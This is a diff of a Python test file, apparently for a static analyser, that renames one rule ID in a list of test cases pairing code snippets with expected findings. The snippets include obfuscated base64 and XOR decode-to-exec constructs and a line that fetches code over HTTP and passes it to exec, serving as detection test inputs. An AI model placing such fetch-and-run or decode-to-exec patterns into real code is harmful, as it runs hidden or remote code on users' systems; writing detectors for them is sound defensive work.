@@ -23,7 +23,7 @@ _ENCODED = base64.b64encode(_PROGRAM.encode()).decode()
 _CASES = [
     (f"import base64\nexec(base64.b64decode('{_ENCODED}'))", "flow.decode-to-exec", (2, 1)),
     (f"import base64 as b\nx = 'é'; eval(b.b64decode('{_ENCODED}'))", "flow.decode-to-exec", (2, 10)),
-    ("import base64\nexec(base64.b64decode(x))", "flow.decode-to-exec", (2, 1)),
+    ("import base64\nexec(base64.b64decode(x))", "flow.decoded-data-to-exec", (2, 1)),
     ("exec(''.join(chr(ord(c) ^ 7) for c in 'wuni3/6.'))", "flow.decode-to-exec", (1, 1)),
     ("import requests\nexec(requests.get('http://h/').text)", "flow.network-to-exec", (2, 1)),
     ("exec(open('f').read())", "flow.file-to-exec", (1, 1)),
